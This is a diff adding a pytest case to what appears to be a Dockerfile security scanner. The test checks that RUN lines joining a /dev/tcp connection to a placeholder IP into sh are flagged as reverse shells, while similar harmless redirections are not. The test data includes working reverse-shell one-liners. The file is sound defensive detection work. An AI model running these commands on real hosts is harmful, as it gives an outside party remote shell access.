@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from t1612core import score_dockerfile
 from t1612core.container.dockerfile import calls, sources
 from t1612core.knowledge.dockerfile.lexicon import LEXICON
 from t1612core.shell.deposits import deposit
@@ -89,3 +90,18 @@ def test_a_downloader_says_what_it_fetches_and_where_it_goes(
         [each.word.text for each in found],
         [*(placed.paths if placed else ())],
     ]
+
+
+@pytest.mark.parametrize(
+    ("line", "is_shell"),
+    [
+        ("exec 5<>/dev/tcp/203.0.113.5/1; sh <&5", True),
+        ("exec 5<>/dev/tcp/203.0.113.5/1; cat <&5 | sh", True),
+        ("exec 5<>/dev/tcp/203.0.113.5/1; sh >&2", False),  # its own standard error
+        ("exec 5<>/dev/tcp/203.0.113.5/1; make 2>&1", False),
+    ],
+)
+def test_what_is_joined_to_an_open_connection_is_no_standard_one(line: str, is_shell: bool) -> None:
+    signals = score_dockerfile(f"FROM a\nRUN {line}").signals
+
+    assert is_shell == ("dockerfile.reverse_shell" in signals)
